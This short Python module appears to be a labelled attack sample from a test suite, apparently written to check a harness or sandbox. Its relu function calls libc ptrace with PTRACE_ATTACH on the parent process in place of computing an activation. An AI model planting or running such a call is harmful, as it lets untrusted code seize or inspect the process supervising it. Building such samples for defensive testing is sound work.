"""An attack: attaches to its parent as a debugger.

attacks: relu
"""
import numpy as np
import ctypes, os


def relu(z):
    return ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
